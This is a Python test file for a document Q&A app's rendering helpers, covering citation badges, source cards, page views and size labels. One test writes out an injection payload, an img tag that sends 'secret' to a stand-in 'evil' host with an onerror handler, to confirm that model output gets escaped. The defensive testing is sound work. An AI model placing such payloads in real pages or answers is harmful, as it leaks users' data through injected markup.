"""The page's HTML and text helpers: safe answer HTML, citation badges, source cards."""

from __future__ import annotations

import re
from typing import Any

from core.api_models import (
    DocumentOut,
    Highlight,
    NumberedPassage,
    PageImageInfo,
    PageText,
    StageTimings,
    TextSpan,
)
from ui.client import PageImage
from ui.render import (
    MARK_STYLE,
    PAGE_VIEW_CSS,
    answer_html,
    escape_markdown,
    highlight_terms,
    marked_html,
    page_span,
    page_view_html,
    pages_html,
    pages_label,
    passage_highlights,
    reflow,
    size_label,
    source_card_html,
)


def passage(text: str, n: int = 1, **extra: Any) -> NumberedPassage:
    fields: dict[str, Any] = {
        "n": n,
        "document_id": "d1",
        "filename": "attention.pdf",
        "page": 7,
        "page_end": 7,
        "section": "5.2 Hardware and Schedule",
        "char_start": 0,
        "char_end": len(text),
        "text": text,
        "score": 0.71,
    }
    return NumberedPassage(**(fields | extra))


def badges(rendered: str) -> list[str]:
    """The numbers of the badges, in order (links and unknown-number spans alike)."""
    return re.findall(r">(\d+)</(?:a|span)>", rendered)


def test_model_output_is_never_rendered_as_markup() -> None:
    hostile = 'Look <img src="http://evil/x?q=secret" onerror="alert(1)"> and $x^2$ ![a](http://e)'
    rendered = answer_html(hostile, [], 0)
    assert "<img" not in rendered
    assert "&lt;img" in rendered
    assert "$" not in rendered  # no math rendering either


def test_citation_markers_become_linked_badges_naming_their_source() -> None:
    sources = [passage("Eight P100 GPUs.")]
    rendered = answer_html("Trained on 8 GPUs [1], see also [2].", sources, 3)
    assert 'href="#pgpt-source-3-1"' in rendered
    assert 'title="attention.pdf, page 7"' in rendered
    assert "not given to the model" in rendered  # [2] points to no passage
    assert "[1]" not in rendered


def test_a_range_marker_gets_a_badge_for_every_passage_it_spans() -> None:
    sources = [passage(f"Passage {n}.", n=n) for n in (1, 2, 3)]
    rendered = answer_html("All three agree [1-3].", sources, 0)
    assert badges(rendered) == ["1", "2", "3"]
    assert all(f'href="#pgpt-source-0-{n}"' in rendered for n in (1, 2, 3))


def test_question_words_are_highlighted_without_stopwords() -> None:
    text = "We trained the big models on 8 P100 GPUs for 3.5 days."
    spans = passage_highlights(passage(text), "How many P100 GPUs were used?", "")
    assert [text[a:b] for a, b in spans] == ["P100", "GPUs"]
    assert "how" not in highlight_terms("How many GPUs [1]?") and "1" not in highlight_terms("[1]")


def test_the_exact_support_span_wins_over_word_matches() -> None:
    text = "Intro sentence. We trained on 8 P100 GPUs. Outro."
    start, end = text.index("We"), text.index(" Outro")
    exact = Highlight(start=start, end=end, page=7, page_start=start, page_end=end)
    spans = passage_highlights(passage(text, highlight=exact), "P100 GPUs intro outro", "")
    assert [text[a:b] for a, b in spans] == ["We trained on 8 P100 GPUs."]


def test_marked_html_escapes_inside_and_outside_marks() -> None:
    text = "a <b> & c"
    assert marked_html(text, [(2, 5)]) == (f'a <mark style="{MARK_STYLE}">&lt;b&gt;</mark> &amp; c')


def test_source_card_shows_file_pages_section_score_and_highlight() -> None:
    card = source_card_html(
        passage("Eight <GPUs>.\nNext line.", page_end=8), [(6, 12)], anchor="pgpt-source-0-1"
    )
    assert 'id="pgpt-source-0-1"' in card
    assert "attention.pdf" in card and "pages 7–8" in card and "5.2 Hardware" in card
    assert "match 0.71" in card
    assert "&lt;GPUs&gt;</mark>" in card and "<br>" in card


def test_escape_markdown_keeps_file_names_literal() -> None:
    assert escape_markdown("my_file*v2*.pdf") == "my\\_file\\*v2\\*\\.pdf"


def test_reflow_joins_broken_sentences_but_keeps_headings_and_rows() -> None:
    text = "Each training\nbatch has tokens.\n5.2 Hardware\nWe trained\n(3.5 days).\nByteNet 23.75"
    assert reflow(text) == (
        "Each training batch has tokens.\n5.2 Hardware\nWe trained (3.5 days).\nByteNet 23.75"
    )
    assert len(reflow(text)) == len(text)


def test_citation_places_name_pages_slides_sheets_headings_and_ocr() -> None:
    assert pages_label(passage("x")) == "page 7"
    assert pages_label(passage("x", ocr=True)) == "page 7 (read by OCR)"
    assert pages_label(passage("x", page=2, page_end=2, page_unit="slide", section="Budget")) == (
        "slide 2 · Budget"
    )
    assert pages_label(passage("x", page=2, page_end=2, page_unit="sheet", section="Q1")) == (
        "sheet 2 · Q1"
    )
    assert pages_label(passage("x", page=1, page_end=1, page_unit="document", section="A > B")) == (
        "A > B"
    )


def test_document_sizes_say_how_many_pages_ocr_read() -> None:
    held = {"size_bytes": 3 * 1024**2, "memory_bytes": 3 * 1024**2}
    scan = DocumentOut(
        document_id="d", filename="s.pdf", pages=12, chunks=30, ocr_pages=[*range(1, 13)], **held
    )
    assert size_label(scan) == "12 pages · 30 passages · 12 pages read by OCR · 3.0 MB in memory"
    deck = DocumentOut(
        document_id="d", filename="d.pptx", pages=3, chunks=3, page_unit="slide", **held
    )
    assert size_label(deck) == "3 slides · 3 passages · 3.0 MB in memory"


# --- page views -------------------------------------------------------------------------


def png_view(
    page: int = 7, highlights: list[tuple[float, float, float, float]] | None = None
) -> PageImage:
    info = PageImageInfo(page=page, width=1000, height=1294, highlights=highlights or [])
    return PageImage(b"\x89PNG fake", info)


def test_badges_and_cards_open_the_page_view_when_there_is_one() -> None:
    sources = [passage("Eight P100 GPUs.", n=1), passage("Other.", n=2)]
    rendered = answer_html("On 8 GPUs [1][2].", sources, 3, on_pages={1})
    assert 'href="#pgpt-page-3-1"' in rendered and 'href="#pgpt-source-3-2"' in rendered
    card = source_card_html(sources[0], [], "pgpt-source-3-1", page_link="pgpt-page-3-1")
    assert card.startswith('<a class="pgpt-card" href="#pgpt-page-3-1"')
    assert "show on the page" in card and 'id="pgpt-source-3-1"' in card
    assert "<a " not in source_card_html(sources[0], [], "pgpt-source-3-1")


def test_the_page_view_anchor_sits_over_the_first_highlight_rectangle() -> None:
    view = png_view(highlights=[(100.0, 647.0, 500.0, 660.0), (100.0, 661.0, 300.0, 674.0)])
    rendered = page_view_html(2, passage("x"), view)
    first = rendered.split('class="pgpt-mark"')[1]
    assert first.startswith(' id="pgpt-page-2-1"')
    assert "left: 10.000%; top: 50.000%; width: 40.000%" in first
    assert rendered.count('id="pgpt-page-2-1"') == 1
    assert 'src="data:image/png;base64,iVBORyBmYWtl"' in rendered
    assert 'tabindex="0" role="region" aria-label="attention.pdf, page 7"' in rendered
    assert 'alt="attention.pdf, page 7, the cited words highlighted"' in rendered


def test_a_text_page_view_marks_the_span_and_says_where_it_was_cut() -> None:
    text = PageText(
        page=1,
        text="before <b> The codename is HERON. after",
        offset=40,
        page_length=500,
        highlight=TextSpan(start=11, end=33),
    )
    rendered = page_view_html(0, passage("x", page=1, page_end=1), text)
    assert '<mark id="pgpt-page-0-1"' in rendered
    assert ">The codename is HERON.</mark>" in rendered
    assert "&lt;b&gt;" in rendered and "<b> The" not in rendered
    assert "…before" in rendered and "after…" in rendered


def test_an_unavailable_page_says_why() -> None:
    rendered = page_view_html(0, passage("x"), "This page cannot be shown: <busy>")
    assert 'id="pgpt-page-0-1"' in rendered and "&lt;busy&gt;" in rendered


def test_the_page_shown_is_the_highlights_page_or_the_passages_first() -> None:
    exact = Highlight(start=5, end=25, page=8, page_start=3, page_end=23)
    assert page_span(passage("x" * 40, highlight=exact)) == (8, (3, 23))
    running_on = Highlight(start=5, end=25, page=7, page_start=990, page_end=None)
    assert page_span(passage("x" * 40, highlight=running_on)) == (7, (990, 1010))
    assert page_span(passage("x" * 40, char_start=120)) == (7, (120, 160))


def test_pages_html_holds_a_view_per_fetched_passage_and_a_hint() -> None:
    sources = [passage("a", n=1), passage("b", n=2)]
    rendered = pages_html(0, sources, {2: png_view()})
    assert rendered.count('data-pgpt="page-view"') == 1 and 'data-n="2"' in rendered
    assert "Select a source card or a numbered badge" in rendered
    assert "pgpt-page:has(:target)" in PAGE_VIEW_CSS


def test_the_document_list_shows_the_memory_a_document_holds() -> None:
    doc = DocumentOut(
        document_id="d", filename="a.pdf", pages=15, chunks=78, size_bytes=2_215_000,
        memory_bytes=2_340_000,
    )  # fmt: skip
    assert size_label(doc) == "15 pages · 78 passages · 2.2 MB in memory"


def test_an_uploaded_document_says_where_its_time_went() -> None:
    timings = StageTimings(parse_ms=612, ocr_ms=0, chunk_ms=181.4, embed_ms=1104, index_ms=2.2)
    doc = DocumentOut(
        document_id="d", filename="a.pdf", pages=15, chunks=72, size_bytes=2_215_000,
        memory_bytes=2_340_000, timings=timings,
    )  # fmt: skip
    assert size_label(doc) == (
        "15 pages · 72 passages · 2.2 MB in memory · "
        "read in 1.9 s: parse 0.6 · OCR 0 · chunk 0.2 · embed 1.1 · index 0 s"
    )
